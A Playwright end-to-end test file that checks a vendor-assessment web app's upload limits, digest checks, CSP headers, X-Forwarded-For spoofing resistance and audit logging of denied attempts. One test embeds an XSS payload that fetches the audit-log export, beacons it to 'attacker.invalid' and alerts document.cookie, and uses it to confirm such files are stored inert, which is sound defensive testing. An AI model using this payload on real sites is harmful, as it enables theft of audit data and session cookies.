import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
import Database from "better-sqlite3";
import { createHash, randomBytes } from "node:crypto";
import path from "node:path";
import { vendorMadeByProcurement } from "./dossier-helpers";
import { E2E_DATA_DIR } from "./env";
import { signInAs } from "./helpers";

// HTTP-level hardening of the real server (`next start`): uploads arrive whole
// or not at all, downloads keep their own CSP, malformed addresses get 400,
// forged client addresses are not recorded, refused attempts are audited.

const MiB = 1024 * 1024;
const sha256 = (b: Buffer) => createHash("sha256").update(b).digest("hex");

/** A PDF-headed body of exactly `size` bytes that no earlier run uploaded. */
function pdfOfSize(size: number): Buffer {
  const body = randomBytes(size);
  body.write("%PDF-1.4\n", 0, "latin1");
  return body;
}

function serverDb() {
  const db = new Database(path.resolve(E2E_DATA_DIR, "assay.db"), { readonly: true });
  db.pragma("busy_timeout = 5000");
  return db;
}

function evidenceCount(vendorId: string): number {
  const db = serverDb();
  try {
    return (db.prepare("SELECT COUNT(*) AS n FROM EvidenceDocument WHERE vendorId = ?").get(vendorId) as { n: number }).n;
  } finally {
    db.close();
  }
}

function upload(request: APIRequestContext, vendorId: string, body: Buffer, headers: Record<string, string> = {}) {
  return request.post(`/api/vendors/${vendorId}/evidence?kind=other&effectiveDate=2026-01-01`, {
    headers: { "content-type": "application/octet-stream", "x-file-name": "evidence.pdf", ...headers },
    data: body,
    timeout: 120_000,
  });
}

async function signedIn(page: Page, role: Parameters<typeof signInAs>[1]) {
  await signInAs(page, role);
  return page.request;
}

test.describe.configure({ mode: "serial" });

test("evidence up to the 25 MB limit is stored whole; anything larger is refused with 413 and nothing is stored", async ({ page, browser }) => {
  test.setTimeout(600_000);
  const vendor = await vendorMadeByProcurement(browser, "Upload sizes");
  const request = await signedIn(page, "security");

  for (const mb of [9, 11, 24.9]) {
    const body = pdfOfSize(Math.round(mb * MiB));
    const response = await upload(request, vendor.id, body);
    expect(response.status(), `${mb} MB`).toBe(201);
    const { document } = (await response.json()) as { document: { id: string; sizeBytes: number; sha256: string } };
    expect(document.sizeBytes, `${mb} MB stored size`).toBe(body.length);
    expect(document.sha256, `${mb} MB stored SHA-256`).toBe(sha256(body));
    const download = await request.get(`/api/evidence/${document.id}`, { timeout: 120_000 });
    expect(sha256(await download.body()), `${mb} MB downloaded`).toBe(sha256(body));
  }

  for (const mb of [25.1, 60]) {
    const before = evidenceCount(vendor.id);
    const body = pdfOfSize(Math.round(mb * MiB));
    const response = await upload(request, vendor.id, body);
    expect(response.status(), `${mb} MB`).toBe(413);
    expect(((await response.json()) as { error: string }).error).toMatch(/larger than the 25 MB limit/);
    expect(evidenceCount(vendor.id), `${mb} MB stored nothing`).toBe(before);
    const db = serverDb();
    expect(db.prepare("SELECT COUNT(*) AS n FROM EvidenceDocument WHERE sha256 = ?").get(sha256(body))).toEqual({ n: 0 });
    db.close();
  }
});

test("a body that does not match the client's digest is refused; a matching Repr-Digest is accepted", async ({ page, browser }) => {
  const vendor = await vendorMadeByProcurement(browser, "Upload digest");
  const request = await signedIn(page, "security");
  const body = pdfOfSize(200_000);
  const before = evidenceCount(vendor.id);
  const wrong = await upload(request, vendor.id, body, { "x-content-sha256": sha256(Buffer.from("something else")) });
  expect(wrong.status()).toBe(400);
  expect(((await wrong.json()) as { error: string }).error).toMatch(/does not match the SHA-256/);
  expect(evidenceCount(vendor.id)).toBe(before);

  const digest = createHash("sha256").update(body).digest("base64");
  const right = await upload(request, vendor.id, body, { "repr-digest": `sha-256=:${digest}:` });
  expect(right.status()).toBe(201);
  expect(((await right.json()) as { document: { sha256: string } }).document.sha256).toBe(sha256(body));
});

test("the evidence download keeps its own sandbox CSP; pages keep the nonce CSP", async ({ page, browser }) => {
  const vendor = await vendorMadeByProcurement(browser, "Download CSP");
  const request = await signedIn(page, "security");
  const created = await upload(request, vendor.id, pdfOfSize(10_000));
  const { document } = (await created.json()) as { document: { id: string } };
  const download = await request.get(`/api/evidence/${document.id}`);
  expect(download.status()).toBe(200);
  expect(download.headers()["content-security-policy"]).toBe("default-src 'none'; sandbox");
  const html = await request.get(`/vendors/${vendor.id}`);
  expect(html.headers()["content-security-policy"]).toMatch(/script-src 'self' 'nonce-/);
});

test("an HTML contract carrying a script is stored as inert text: a plain-text attachment, unsniffable and sandboxed; other evidence refuses it", async ({ page, browser }) => {
  const vendor = await vendorMadeByProcurement(browser, "HTML contract");
  const request = await signedIn(page, "legal");
  const body = Buffer.from(
    `<!DOCTYPE html><html><head><script>fetch("/api/audit-log/export").then(r => r.text()).then(t => navigator.sendBeacon("https://attacker.invalid", t))</script></head><body onload="alert(document.cookie)"><h2>Audit</h2><p>The Customer may audit the Supplier's premises on 10 days' notice. ${randomBytes(8).toString("hex")}</p></body></html>`,
  );
  const before = evidenceCount(vendor.id);
  const refused = await request.post(`/api/vendors/${vendor.id}/evidence?kind=other&effectiveDate=2026-01-01`, {
    headers: { "content-type": "text/html", "x-file-name": "terms.html" },
    data: body,
  });
  expect(refused.status()).toBe(400);
  expect(((await refused.json()) as { error: string }).error).toMatch(/HTML or XML markup/);
  expect(evidenceCount(vendor.id)).toBe(before);

  const created = await request.post(`/api/vendors/${vendor.id}/evidence?kind=contract&effectiveDate=2026-01-01`, {
    headers: { "content-type": "text/html", "x-file-name": "terms.html" },
    data: body,
  });
  expect(created.status()).toBe(201);
  const { document } = (await created.json()) as { document: { id: string } };
  const download = await request.get(`/api/evidence/${document.id}`);
  expect(download.status()).toBe(200);
  const headers = download.headers();
  expect(headers["content-type"]).toBe("text/plain; charset=utf-8");
  expect(headers["content-disposition"]).toMatch(/^attachment;/);
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["content-security-policy"]).toBe("default-src 'none'; sandbox");
  expect((await download.body()).equals(body)).toBe(true);
});

test("malformed percent-escapes get 400, for pages and route handlers, signed in or not", async ({ page, playwright, baseURL }) => {
  const paths = ["/assessments/%ZZ/report.pdf", "/vendors/%ZZ", "/vendors/%E0%A4%A/evidence", "/api/evidence/%ZZ", "/api/vendors/%ZZ/audit-pack"];
  const request = await signedIn(page, "security");
  const anonymous = await playwright.request.newContext({ baseURL });
  for (const p of paths) {
    expect((await request.get(p, { maxRedirects: 0 })).status(), `${p} signed in`).toBe(400);
    expect((await anonymous.get(p, { maxRedirects: 0 })).status(), `${p} signed out`).toBe(400);
  }
  await anonymous.dispose();
});

test("a forged X-Forwarded-For is not recorded as the client's address", async ({ browser }) => {
  const vendor = await vendorMadeByProcurement(browser, "Forged address");
  const context = await browser.newContext({ extraHTTPHeaders: { "x-forwarded-for": "6.6.6.6", "x-real-ip": "6.6.6.6" } });
  const page = await context.newPage();
  const request = await signedIn(page, "security");
  const created = await upload(request, vendor.id, pdfOfSize(5_000));
  expect(created.status()).toBe(201);
  const { document } = (await created.json()) as { document: { id: string } };
  const db = serverDb();
  const event = db.prepare("SELECT ip FROM AuditEvent WHERE action = 'evidence.upload' AND entityId = ?").get(document.id) as { ip: string | null };
  const signInEvent = db.prepare("SELECT ip FROM AuditEvent WHERE action LIKE 'auth.sign_in%' ORDER BY id DESC LIMIT 1").get() as { ip: string | null } | undefined;
  db.close();
  expect(event.ip).toMatch(/^(127\.0\.0\.1|::1)$/);
  if (signInEvent) expect(signInEvent.ip).not.toBe("6.6.6.6");
  await context.close();
});

test("a refused attempt is recorded and shown under the audit log's Denied attempts filter", async ({ browser }) => {
  const vendor = await vendorMadeByProcurement(browser, "Denied attempt");
  const viewerContext = await browser.newContext();
  const viewerPage = await viewerContext.newPage();
  const viewer = await signInAs(viewerPage, "viewer");
  const refused = await upload(viewerPage.request, vendor.id, pdfOfSize(5_000));
  expect(refused.status()).toBe(403);
  await viewerContext.close();

  const context = await browser.newContext();
  const page = await context.newPage();
  await signInAs(page, "security");
  await page.goto("/audit-log");
  await page.getByLabel("Action").selectOption({ label: "Denied attempts (all)" });
  await page.getByRole("button", { name: "Apply" }).click();
  await expect(page).toHaveURL(/action=denied\.\*/);
  const row = page.getByTestId("audit-event").filter({ hasText: viewer.email }).filter({ hasText: "denied.permission" }).first();
  await expect(row).toBeVisible();
  await expect(row).toContainText("evidence.upload");
  await context.close();
});
